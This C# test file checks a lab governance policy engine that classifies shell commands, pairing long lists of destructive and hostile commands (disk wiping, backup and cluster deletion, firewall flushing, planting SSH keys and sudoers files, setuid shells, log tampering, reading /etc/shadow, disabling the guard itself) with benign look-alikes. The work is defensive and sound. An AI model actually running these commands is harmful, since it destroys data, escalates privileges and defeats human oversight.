using LabGovernance.Policy;

namespace LabGovernance.Core.Tests.Policy.Redlines;

/// <summary>Each table of built-in rules under a policy that allows each program with any words, so that nothing else stands in the way.</summary>
public sealed class RuleTableTests
{
    public static TheoryData<string, string> Dangerous => Rows(
        ("redline.disk-format", "wipefs --al /dev/sda|hdparm --yes-i-know-what-i-am-doing --write-sector 0 /dev/sda|nvme write-zeroes /dev/nvme0n1 -s 0|blkzone reset /dev/sda|parted /dev/sda mklabel gpt|dmsetup remove_all|mdadm -S /dev/md0|sg_format --format /dev/sda"),
        ("redline.device", "dd if=x of=/dev/zd0|dd if=x of=/dev/vg0/root|tar cf /dev/sda /home|qemu-img convert -O raw x.qcow2 /dev/sda|pv img -o /dev/sda|dcfldd if=x of=/dev/sda|tee /sys/block/sda/device/delete|ddrescue -f img /dev/sdb|cp img /dev/vg0/data|dd if=x of=/proc/self/task/1/root/dev/sda"),
        ("ask.mounts", "mount -o remount,ro /|mount --bind /tmp/x /srv/y|umount /tank|mount -t tmpfs none /srv/x"),
        ("redline.volume-destroy", "btrfs sub del /x|btrfs su de /x|btrfs subvol delete /x|zfs rollback tank@x|snapper -c root delete 5|qm dest 100|qm delsnap 100 s|pct des 101|pvesh del /nodes/pve/qemu/100|qm set 100 --delete scsi0|virsh undefine vm|virsh 'undefine vm --remove-all-storage'|virsh <<< 'undefine vm'|lvm <<< 'lvremove -f vg/x'|rbd snap purge p/i|xl destroy vm|VBoxManage unregistervm vm --delete|incus rm c|lvresize -L 1G vg/d"),
        ("redline.backup-destroy", "borgmatic prune|restic rewrite --forget --exclude / all|restic -r /r key remove x|rclone cleanup r:|kopia snapshot expire --all --delete|velero backup delete --all|tarsnap -d -f x|vzdump 100 --prune-backups keep-last=1|duplicity cleanup --force u|rm /srv/x/vzdump-qemu-100.vma.zst"),
        ("redline.cluster-destroy", "kubectl delete ns prod|kubectl delete ns/prod|kubectl -n x delete pvc/data|kubectl delete pods,pvc -l a=b|kubectl delete -n prod statefulset db|kubectl drain n1 --force|helm -n x uninstall db|kubeadm reset -f|k3s kubectl delete ns prod|minikube delete|kubectl patch pv x -p '{\"metadata\":{\"finalizers\":null}}'"),
        ("redline.cloud-destroy", "aws --profile p s3 rm --recursive s3://b|aws ec2 terminate-instances --instance-ids i|terraform destroy|gcloud compute instances delete x|az group delete -n x|gsutil -m rm -r gs://b|gh repo delete me/x"),
        ("redline.firewall", "iptables -I INPUT -j ACCEPT|iptables -A INPUT -p tcp --dport 22 -j ACCEPT|iptables -I INPUT -s 0.0.0.0/0 -j ACCEPT|iptables -t nat -A PREROUTING -p tcp --dport 22 -j DNAT --to 10.0.0.5|nft 'list tables; flush ruleset'|nft -i <<< 'flush ruleset'|nft add chain inet f input '{ policy accept; }'|nft destroy table inet f|ufw allow in from any|ufw insert 1 allow from any|ipset flush|fw3 stop|pvesh set /cluster/firewall/options --enable 0|pvesh set /cluster/firewall/options -enable=0"),
        ("redline.firewall", "systemctl stop docker nftables|systemctl stop 'nftab*'|systemctl stop rsys.service crowdsec.service|service pf onestop|rc-service nftables stop|rc-update del nftables|/etc/init.d/ufw stop|pkill suricata"),
        ("redline.wan-exposed", "tailscale serve --bg --funnel 8123|cloudflared --url http://x|ssh -R 0.0.0.0:80:localhost:80 vps|autossh -M 0 -R 0.0.0.0:1:l:1 vps|upnpc -n 10.0.0.5 22 22 TCP|npx localtunnel --port 1|code tunnel|zrok share public 1|chisel client vps R:1:l:1|firewall-cmd --zone=public --add-port=22/tcp"),
        ("redline.credentials", "usermod -u 0 x|useradd -ou0 x|useradd -G sudo x|chmod 4755 /tmp/sh|chmod u+s /tmp/sh|setcap cap_setuid+ep /tmp/x|pveum aclmod / -user x -role A|pvesh set /access/password --userid x|ha auth reset --username a|vault kv metadata delete x|occ user:resetpassword admin|install -m 4755 x /tmp/x"),
        ("redline.credentials", "cp -r sudoers.d /etc|cp -rT evil /etc|rsync -a evil/ /etc/|cp -t/etc/sudoers.d evil|mv evil -t /etc/sudoers.d|uniq key /root/.ssh/authorized_keys|split -b 9 key /etc/sudoers.d/x|gpg -o /root/.ssh/authorized_keys -d k|curl -so /root/.ssh/authorized_keys http://x|wget -P /etc/sudoers.d http://x|tar xf x.tar -C /root/.ssh|tar -C /etc/sudoers.d -xzf x.tgz|docker cp key c:/root/.ssh/authorized_keys|yq -i '.a=1' /etc/pve/user.cfg|git archive -o /root/.ssh/authorized_keys HEAD|script -c 'cat key' /root/.ssh/authorized_keys|sqlite3 x '.backup /root/.ssh/authorized_keys'"),
        ("redline.credentials", "psql -c \"ALTER ROLE x PASSWORD 'y'\"|mysql -e \"GRANT ALL ON *.* TO x\"|redis-cli ACL SETUSER x on nopass allcommands"),
        ("redline.audit-record", "sed -i d /var/log/auth.log|chmod 000 /var/log/auth.log|auditctl -d never,task|lastlog -C -u root|faillock --user root --reset|pkill -9 journald|systemctl stop rsyslog.socket|set +o history|killall auditd|systemctl stop nginx rsyslog"),
        ("redline.database-destroy", "psql -c 'DELETE FROM t'|psql -c 'DELETE FROM t WHERE true'|sqlite3 a.db 'delete from t where 1=1'|mysql -e'DROP DATABASE x'|mysql -Ne'DROP TABLE x'|psql -c'DROP TABLE x'|mysql -e 'DROP # x\n TABLE t'|psql -c 'ALTER TABLE t DROP COLUMN c'|mongosh --eval 'db.u.drop()'|keydb-cli FLUSHALL|influx -execute 'DELETE FROM x'|influx org delete -n x|etcdctl del '' --from-key=true|clickhouse-client -q 'ALTER TABLE x DELETE WHERE 1'|psql -c \"SELECT '/*'; DELETE FROM t; SELECT '*/'\"|mongorestore --drop d|pg_restore --clean -d x d"),
        ("deny.database-shell", "psql -c '\\g |id'|psql -c 'select 1 \\g |id'|psql -c '\\i /tmp/x'|psql -c '\\w /tmp/x'|psql -c \"COPY t TO '/tmp/x'\"|mysql -e 'system id'|mysql -e 'select 1; source x.sql'|sqlite3 x '.sh id'|sqlite3 x '.sy id'|sqlite3 x '.o /tmp/x'|sqlite3 x \"SELECT writefile('x','y')\"|redis-cli MODULE LOAD /tmp/x.so|redis-cli REPLICAOF 10.0.0.9 1|mongosh /tmp/x.js"),
        ("ask.database-change", "psql -c 'UPDATE t SET a=1'|psql -c 'DROP VIEW v CASCADE'"),
        ("ask.statements-unseen", "cat x.sql \\| psql"),
        ("redline.guard", "lab -c 'Approve-LabChange x'|lab run x.ps1|yq -i '.a=1' cse-policy.yaml|git checkout -- cse-policy.yaml|rm -rf /srv/lab|mv /srv/lab /srv/old|chmod -R 000 /srv/lab|rsync -a evil/ /srv/lab/|tar xf x.tar -C /srv/lab|cd /srv; rm -rf lab|pkill lab|systemctl stop lab|cp -r evil/. .|mount --bind /tmp/x /srv/lab/.lab"),
        ("redline.kill-all", "kill -9 1|kill -9 -1|pkill -9 .|pkill -f ''|pkill -v nothing|pkill -9 -u root|killall -9 -r .|fuser -km /srv"),
        ("redline.file-system-root", "rm -rf /var/lib/grafana|rm -rf /var/lib/docker/volumes/db|rm -rf /srv/backup|rm -rf /mnt/pve/nas/dump|docker exec db rm -rf /var/lib/postgresql/data|rsync -a --delete e/ root@pve:/etc/|rm -rf /proc/self/task/1/root/etc|rm -rf /proc/self/cwd/../../etc|mv /var/lib/docker /mnt/usb|rm -rf /usr/lib/x86_64-linux-gnu"),
        ("ask.data-folder", "rm -rf /opt/app|rm -f /mnt/nas/media/x.mkv|mv /var/lib/docker/volumes/db /tmp/x|truncate -s 0 /srv/x/disk.qcow2|chmod -R 000 /var/lib/docker/volumes/db|dd if=/dev/zero of=/srv/fill"),
        ("deny.system-file", "ln -sfn /tmp /etc/pve|dd if=x of=/etc/cron.d/x|rclone copy r: /etc/cron.d|aria2c -d /etc/cron.d http://x|7z x x.7z -o/etc/cron.d|mkdir -p /etc/systemd/system/x.service.d|mount -t tmpfs tmpfs /etc"),
        ("ask.secret-shown", "find / -name id_rsa -exec cat {} +|find /home -name '*.pem'|cat /run/secrets/db|xxd /proc/self/root/etc/shadow|tar cf - /root/.ssh|base64 /etc/shadow"),
        ("ask.cut-off", "ip l s eth0 down|ip r f all|ip a d 10.0.0.1/24 dev eth0"),
        ("ask.power", "systemctl start reboot.target|kexec -l x"),
        ("ask.foreign-code", "npx evil|pip install evil|dpkg -i x.deb|go run x.go|make -f x"),
        ("ask.later-code", "git config core.pager /tmp/x|git config alias.x '!id'|git grep -O/tmp/x y|nginx -c /tmp/x"));

    public static TheoryData<string> Harmless =>
    [
        "wipefs -n -a /dev/sda", "nvme smart-log /dev/nvme0", "hdparm -I /dev/sda", "dmsetup ls", "mdadm --detail /dev/md0", "parted /dev/sda print", "tar cf /tmp/x.tar dev", "dd if=/dev/sda of=/dev/null bs=1M count=1", "tee /dev/null",
        "btrfs subvolume list /x", "btrfs su li /x", "btrfs device stats /x", "qm list", "qm config 100", "qm set 100 --memory 4096", "pct status 101", "pvesh get /nodes", "virsh destroy vm", "virsh 'list --all'", "lvresize -L +1G vg/d", "zfs list", "zfs rename a b", "rbd snap ls p/i",
        "restic snapshots", "borgmatic list", "rclone lsd r:", "kopia snapshot list", "velero backup get", "restic forget --dry-run --prune", "borg prune --dry-run", "vzdump 100 --mode snapshot",
        "kubectl delete pod x", "kubectl delete pod project", "kubectl get ns/prod", "kubectl delete ns x --dry-run=client", "kubectl rollout restart deploy/x", "helm uninstall --dry-run x", "helm list -A", "kubectl patch deploy x -p '{}'", "kubectl logs delete-job",
        "aws s3 ls", "terraform plan", "gcloud compute instances list", "gh repo view",
        "iptables -L -n", "iptables -C INPUT -p tcp --dport 22 -j ACCEPT", "iptables -A INPUT -s 10.0.0.5 -j ACCEPT", "iptables -A INPUT -i lo -j ACCEPT", "iptables -A INPUT -s 10.0.0.66 -j DROP", "iptables -A INPUT -m state --state ESTABLISHED,RELATED -j ACCEPT", "nft list ruleset", "nft 'list tables'", "ufw status", "ufw allow from 10.0.0.0/24 to any port 22",
        "ipset list", "pvesh get /cluster/firewall/options", "systemctl status nftables", "systemctl restart nftables", "systemctl stop nginx", "pkill -HUP rsyslogd", "cloudflared tunnel list", "ngrok config check", "tailscale funnel status",
        "usermod --help", "chmod 644 x", "chmod 0755 x", "pveum user list", "pveum acl list", "getent passwd root", "cp -r app /srv/app", "rsync -a a/ /srv/a/", "uniq a b", "split -b 9 x part", "gpg -o out.txt -d x.gpg", "curl -so /dev/null http://x", "tar xf x.tar", "docker cp c:/etc/hosts /tmp/hosts", "docker cp x c:/usr/share/nginx/html/",
        "ssh-keygen -lf key.pub", "install -m 755 x /tmp/x", "yq '.a' cse.yaml",
        "journalctl -u ssh", "lastlog -u root", "auditctl -l", "psql -c \"SELECT 'DELETE FROM t'\"", "psql -c 'DELETE FROM t WHERE id = 7'", "psql -c 'SELECT truncate(1.5)'", "psql -c \"UPDATE t SET a = 1 WHERE id = 3\"", "psql -c '\\dt'", "psql -c \"SELECT * FROM a WHERE b = 'DROP TABLE'\"", "mysql -e 'SHOW GRANTS'", "sqlite3 x '.tables'", "sqlite3 x '.schema t'", "sqlite3 x '.output stdout'",
        "sqlite3 x \".backup '/srv/backup/x.db'\"", "redis-cli INFO", "redis-cli CONFIG GET maxmemory", "mongosh --eval 'db.u.find()'", "influx bucket list", "etcdctl get x",
        "kill 1234", "kill -9 4321", "kill -1 1234", "pkill -f ffmpeg", "killall -HUP nginx", "rm -rf /srv/app/cache/x", "rm -rf build", "rm -rf /tmp/x", "find /srv -name '*.yaml'", "find . -name '*.keynote'", "ip -br a", "ip l", "ip r", "ip a s eth0", "git config --get core.pager", "git config --list", "make -n", "pip list", "swapon --show",
    ];

    [Theory]
    [MemberData(nameof(Dangerous))]
    public void What_a_table_names_is_told_in_every_form(string code, string line)
        => Assert.Contains(Judge(line).Reasons, r => r.Code == code);

    [Theory]
    [MemberData(nameof(Harmless))]
    public void Its_neighbours_are_left_alone(string line)
        => Assert.True(Judge(line) is { Effect: Effect.Allow } or { Reasons: [{ Code: "deny.option" or "ask.option" or "deny.disk-edit" }, ..] }, Judge(line).ToString());

    private static Ruling Judge(string line) => Policies.Of(Policies.Scope("vms", false, Programs(line))).Judge(line);

    private static string[] Programs(string line)
        => [.. line.Split([' ', ';', '|', '\n'], StringSplitOptions.RemoveEmptyEntries).Where(w => char.IsAsciiLetter(w[0])).Distinct().Select(w => $"{w} *")];

    private static TheoryData<string, string> Rows(params (string Code, string Lines)[] rows)
    {
        var data = new TheoryData<string, string>();
        foreach (var (code, lines) in rows)
        {
            foreach (var line in lines.Replace("\\|", "\uE001", StringComparison.Ordinal).Replace(" |id", " \uE001id", StringComparison.Ordinal).Split('|'))
                data.Add(code, line.Replace('\uE001', '|'));
        }

        return data;
    }
}
